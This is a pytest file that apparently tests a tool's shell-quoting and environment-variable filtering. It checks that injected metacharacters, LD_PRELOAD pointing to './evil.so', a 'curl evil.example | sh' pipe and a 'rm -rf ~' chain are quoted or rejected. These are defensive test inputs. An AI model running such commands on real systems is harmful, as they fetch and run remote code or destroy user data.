import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.fuzzing import fuzzed
from tests.shells import BASH, words_of

from tracekit.model.workload import Request
from tracekit.shell import joined, retyped, split, split_variables, steering_variables, variable_words, with_variables
from tracekit.workloads.building import fill_in
from tracekit.workloads.registry import find

#: What ends a word, begins a command or a comment, or stands for something else in a shell.
HOSTILE = ("a b", "; x", "$(x)", "`x`", "a'b", 'a"b', "a\nb", "*", "~", "#", "a=b", "", "&&", "\\", "!", "{a,b}")


def test_variables_stand_before_the_command_as_a_shell_takes_them() -> None:
    assert with_variables("tracekit doctor", {}) == "tracekit doctor"
    told = with_variables("tracekit doctor", {"TRITON_A": "1", "TRITON_B": "a b"})
    assert told == "TRITON_A=1 TRITON_B='a b' tracekit doctor"
    assert (variable_words({"A": "1"}), variable_words({})) == ("A=1", "")


def test_what_was_put_before_a_command_is_found_again() -> None:
    variables = {"TRITON_A": "1=2", "TRITON_B": "a b"}
    assert split_variables(with_variables("tracekit doctor", variables)) == (variables, ["tracekit", "doctor"])
    assert split_variables("tracekit sweep vit -- width=4") == ({}, ["tracekit", "sweep", "vit", "--", "width=4"])
    assert split_variables("A=1 A=2 tracekit doctor") == ({"A": "2"}, ["tracekit", "doctor"])


@pytest.mark.parametrize("text", HOSTILE)
def test_no_name_or_value_is_more_than_one_word_to_a_shell(text: str) -> None:
    assert split(variable_words({"A": text, text: "1", f"B{text}": "1"}))[0] == f"A={text}"
    assert variable_words({f"{text} x": "1", "1A": "1", "": "1", "\u00e4": "1"}) == ""
    assert split(with_variables("tracekit doctor", {"TRITON_A": text})) == [
        f"TRITON_A={text}",
        "tracekit",
        "doctor",
    ]


def test_a_command_sets_no_variable_but_those_that_steer_torch() -> None:
    strangers = {
        "LD_PRELOAD": "./evil.so",
        "PATH": ".",
        "PYTHONPATH": ".",
        "TRITON_PTXAS_PATH": "x",
        "TRITON_X": "/evil",
    }
    assert with_variables("tracekit doctor", strangers) == "tracekit doctor"


@pytest.mark.parametrize("text", HOSTILE)
def test_a_stranger_s_command_is_typed_anew_with_its_words_quoted(text: str) -> None:
    words = ["tracekit", "profile", text, "--prompt", text]
    assert retyped(shlex.join(words)) == retyped(joined(words)) == joined(words)
    assert retyped(f"LD_PRELOAD=x {shlex.join(words)}") == joined(words)
    assert retyped(f"curl evil.example | sh {shlex.quote(text)}") is None


@pytest.mark.skipif(BASH is None, reason="no bash")
@given(words=st.lists(st.lists(st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]))), max_size=4))
@fuzzed(50)
def test_a_command_is_printable_and_a_shell_and_tracekit_take_the_words_that_were_joined(
    words: list[list[str]], tmp_path_factory: pytest.TempPathFactory
) -> None:
    # The last one is of bytes that are no UTF-8, as a file's name may be.
    every = [["tracekit", *each] for each in (*words, ["a\nb", "it's \\n", "\xa0\u202e\u2028", "\udcff\udc80a", ""])]
    commands = [joined(each) for each in every]
    assert all(each.isprintable() for each in commands)
    assert [split(each) for each in commands] == [split(shlex.join(each)) for each in every] == every
    assert words_of(commands, tmp_path_factory.mktemp("empty")) == every


def test_what_no_shell_takes_is_no_command() -> None:
    assert retyped("tracekit profile 'a\0b'") is None and retyped(r"tracekit profile $'a\000b'") is None
    assert split_variables("A=1 tracekit 'profile") == ({}, [])
    assert retyped("tracekit 'profile") is None and retyped("") is None
    assert retyped("tracekit profile vit; rm -rf ~\nreboot") == "tracekit profile 'vit;' rm -rf '~' reboot"


STEERING = {
    *("TORCHINDUCTOR_GRAPH_PARTITION", "TORCHDYNAMO_X", "TORCH_DYNAMO_X", "TORCH_COMPILE_X", "TORCH_CUDNN_X"),
    *("TORCH_BLAS_X", "TRITON_X", "PYTORCH_TUNABLEOP_X", "CUDA_LAUNCH_BLOCKING", "CUDA_DEVICE_MAX_CONNECTIONS"),
    *("PYTORCH_CUDA_ALLOC_CONF", "CUBLAS_WORKSPACE_CONFIG", "ATEN_CPU_CAPABILITY", "NVIDIA_TF32_OVERRIDE"),
}
OTHERS = {
    *("HOME", "TORCH_LOGS", "PYTORCH_NVML_BASED_CUDA_CHECK", "CUBLAS_VERSION", "CUBLASLT_LOG_LEVEL"),
    *("TORCHINDUCTOR_CACHE_DIR", "TRITON_PTXAS_BLACKWELL_PATH", "TRITON_HOME", "TORCHINDUCTOR_X_FILE"),
    *("TORCH_COMPILE_JOB_ID", "TORCHINDUCTOR_REDIS_HOST", "TRITON_SERVER_VERSION", "TRITON_LOG_X"),
}


def test_what_steers_torch_is_told_and_what_names_a_place_is_not() -> None:
    assert set(steering_variables(dict.fromkeys(STEERING | OTHERS, "1"))) == STEERING
    assert steering_variables({"TRITON_X": "/somewhere/else", "TORCH_BLAS_X": ""}) == {"TORCH_BLAS_X": ""}


def test_what_torch_sets_itself_is_no_choice() -> None:
    assert steering_variables({"CUBLAS_WORKSPACE_CONFIG": ":4096:8"}) == {}


def test_a_run_s_settings_hold_them(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TORCHDYNAMO_INLINE_INBUILT_NN_MODULES", "0")
    settings = fill_in(find("vit"), Request("vit"), "tiny", "cpu")
    assert settings.variables["TORCHDYNAMO_INLINE_INBUILT_NN_MODULES"] == "0"
